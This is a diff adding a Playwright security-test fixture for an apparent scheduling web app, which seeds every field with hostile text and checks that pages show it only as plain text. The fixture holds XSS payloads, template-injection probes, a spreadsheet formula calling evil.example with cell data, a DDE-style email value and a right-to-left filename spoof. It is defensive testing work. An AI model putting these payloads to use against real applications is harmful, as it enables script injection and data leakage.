@@ -1,0 +1,205 @@
+// A business in whose every text somebody has hidden something, and what a page may not make of it (decisions 2 and 7).
+// `window.__pwned` is watched in every test (see watch.ts); `x-pwned` is an element that only such a text could make.
+import { expect, type Page } from '@playwright/test';
+import { type Api, type Client, type Job, type JobCard } from './api.ts';
+import type { Day } from './days.ts';
+
+/** Far from the demo's jobs, so that the week shows these alone. */
+export const hostileWeek: Day = '2031-01-06';
+
+const MARKUP = `"'><img src=x onerror=__pwned=1><script>__pwned=2</script><x-pwned>{{7*7}}`;
+
+/** A text for a field of at least 100 characters; each field has its own, so that a test can tell them apart. */
+export function markup(field: string): string {
+  return field + MARKUP;
+}
+
+/** The same for 200 characters, with ways out of a title and a text area. */
+export function longMarkup(field: string): string {
+  return `${markup(field)}\${7*7}</title></textarea><svg/onload=__pwned=3><a href=javascript:__pwned=4>x</a>`;
+}
+
+export const kinds = {
+  /** Becomes a link wherever a text does, and then runs when it is pressed. */
+  link: 'javascript:__pwned=5//0412345678',
+  /** Runs in the spreadsheet that a CSV is opened with. */
+  formula: `=HYPERLINK("https://evil.example/?"&A1,"Open")`,
+  /** Reads as another text; turns what stands behind it around. */
+  turned: 'Invoice \u202Egpj.exe',
+  /** Has no place to break. */
+  word: 'W'.repeat(200),
+} as const;
+type Kind = keyof typeof kinds;
+
+/** Valid as an address of mail and a command to a spreadsheet, or more than an address to a mail program. */
+export const hostileEmail = (who: string): string => `=${who}|'calc'!a1?bcc=x&body=y@evil.example`;
+
+export interface HostileBusiness {
+  client: Client;
+  job: Job;
+  /** A completed job with the card. */
+  done: Job;
+  card: JobCard;
+  /** A job of each other kind of text, with a client of that kind. */
+  others: Record<Kind, Job>;
+}
+
+const row = { date: hostileWeek, startTime: '09:00', finishTime: '10:00', regularTime: '1' };
+
+function clientOf(api: Api, text: string): Promise<Client> {
+  const short = Array.from(text).slice(0, 100).join('');
+  return api.createClient({
+    name: text,
+    businessName: text,
+    address: text,
+    phone: short,
+    mainContact: text,
+    mainContactPhone: short,
+    siteContact: text,
+    siteContactPhone: short,
+  });
+}
+
+async function storeSettings(api: Api): Promise<void> {
+  await api.patchSettings({
+    businessName: longMarkup('Business'),
+    businessAddress: longMarkup('Headquarters'),
+    businessPhone: markup('Switchboard'),
+    businessEmail: hostileEmail('office'),
+    businessNumber: markup('ABN'),
+  });
+}
+
+async function storePeople(api: Api): Promise<void> {
+  const people = await api.users();
+  for (const username of ['admin', 'worker']) {
+    const id = people.find((one) => one.username === username)?.id ?? '';
+    await api.patchUser(id, { fullName: longMarkup(username), email: hostileEmail(username) });
+  }
+  const third = await api.createUser('third.person');
+  await api.patchUser(third.id, { username: longMarkup('login'), fullName: kinds.formula });
+}
+
+function storeCard(api: Api, jobId: string): Promise<JobCard> {
+  return api.createCard(jobId, {
+    attentionTo: longMarkup('Attention'),
+    contactPhone: markup('Call'),
+    jobDescription: longMarkup('Scope'),
+    noticeOfCompletion: longMarkup('Notice'),
+    orderNo: markup('Order'),
+    poNumber: markup('PO'),
+    technicianName: longMarkup('Technician'),
+    inspectorSignature: longMarkup('Signed'),
+    customerSignature: kinds.link,
+    workCarriedOut: [{ date: hostileWeek, description: longMarkup('Work') }],
+    laborEntries: [{ ...row, serviceman: longMarkup('Serviceman') }],
+    materialsUsed: [{ quantity: '1', price: '2', description: longMarkup('Part') }],
+  });
+}
+
+async function storeOthers(api: Api): Promise<Record<Kind, Job>> {
+  const stored = Object.entries(kinds).map(async ([kind, text]) => {
+    const { id: clientId } = await clientOf(api, text);
+    const slot = { day: hostileWeek, from: '13:00', to: '14:00', clientId, allowOverlap: true };
+    const texts = { title: text, description: text, location: text };
+    return [kind, await api.createJob({ ...slot, ...texts })] as const;
+  });
+  return Object.fromEntries(await Promise.all(stored)) as Record<Kind, Job>;
+}
+
+/** Stores such texts in every field that takes one, as the administrator `api` and the worker would. */
+export async function storeHostile(api: Api, worker: Api): Promise<HostileBusiness> {
+  await storeSettings(api);
+  await storePeople(api);
+  const client = await clientOf(api, longMarkup('Client'));
+  await api.patchClient(client.id, {
+    phone: markup('Phone'),
+    address: longMarkup('Street'),
+    email: hostileEmail('client'),
+    mainContactEmail: hostileEmail('contact'),
+  });
+  const { id: assignedUserId } = await worker.me();
+  const slot = {
+    day: hostileWeek,
+    from: '09:00',
+    to: '10:00',
+    clientId: client.id,
+    assignedUserId,
+  };
+  const job = await api.createJob({
+    ...slot,
+    title: longMarkup('Before'),
+    description: longMarkup('Description'),
+    location: longMarkup('Location'),
+  });
+  await api.patchJob(job.id, { title: longMarkup('Job'), description: longMarkup('Details') });
+  await worker.verb(job.id, 'request-deletion');
+  const done = await api.createJob({
+    ...slot,
+    from: '11:00',
+    to: '12:00',
+    title: longMarkup('Done'),
+    location: longMarkup('Site'),
+    status: 'completed',
+  });
+  const card = await storeCard(api, done.id);
+  return { client, job, done, card, others: await storeOthers(api) };
+}
+
+/** Everything that a page says: its text, what its fields hold, and what only a screen reader hears. */
+function everythingSaid(): string {
+  const fields = [
+    ...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>('input, textarea'),
+  ];
+  const labels = [...document.querySelectorAll('[aria-label]')].map((one) =>
+    one.getAttribute('aria-label'),
+  );
+  return [document.body.textContent, ...fields.map(({ value }) => value), ...labels].join('\n');
+}
+
+/** What on a page can only have been made by a hostile text, or could run one. */
+function madeByText(): string[] {
+  const made: string[] = [];
+  const strange =
+    'x-pwned, img[src=x], iframe, object, embed, base, meta[http-equiv], body script:not([src])';
+  document.querySelectorAll(strange).forEach(({ outerHTML }) => made.push(outerHTML));
+  for (const element of document.querySelectorAll('*'))
+    for (const { name } of element.attributes)
+      if (/^on/i.test(name)) made.push(`${element.tagName} ${name}`);
+  for (const link of document.querySelectorAll<HTMLElement>(
+    '[href], [src], [action], [formaction]',
+  )) {
+    for (const name of ['href', 'src', 'action', 'formaction']) {
+      const target = link.getAttribute(name);
+      if (target === null || link instanceof SVGElement) continue;
+      const { protocol, origin } = new URL(target, document.baseURI);
+      const isOwn = origin === location.origin;
+      const isCall = /^tel:\+?\d+$/.test(target);
+      // A mail to one address, without a subject, text or copy of somebody else's choice.
+      const isMail = protocol === 'mailto:' && !target.includes('?');
+      if (!isOwn && !isCall && !isMail) made.push(`${name}=${target}`);
+    }
+  }
+  // While it is printed, the title is the name of the file.
+  if (!/^(([\w &]+ · )?Jobwright|Job Card JC-\d+)$/.test(document.title))
+    made.push(`title: ${document.title}`);
+  const { scrollWidth, clientWidth } = document.documentElement;
+  const isTooWide = (one: Element): boolean => one.getBoundingClientRect().right > clientWidth + 1;
+  const widest = [...document.querySelectorAll('main *')].findLast(isTooWide);
+  // Paper has a width of its own.
+  if (scrollWidth > clientWidth && !matchMedia('print').matches)
+    made.push(
+      `scrolls sideways: ${scrollWidth} of ${clientWidth} px, ${widest?.outerHTML.slice(0, 200)}`,
+    );
+  return made;
+}
+
+/** The page says all of `texts` to the letter, and nothing on it was made by them. */
+export async function expectPlain(page: Page, ...texts: string[]): Promise<void> {
+  const missing = async (): Promise<string[]> => {
+    const said = await page.evaluate(everythingSaid);
+    return texts.filter((text) => !said.includes(text));
+  };
+  await expect.poll(missing, 'shown as text').toEqual([]);
+  expect(await page.evaluate(madeByText), 'nothing is made of it').toEqual([]);
+}
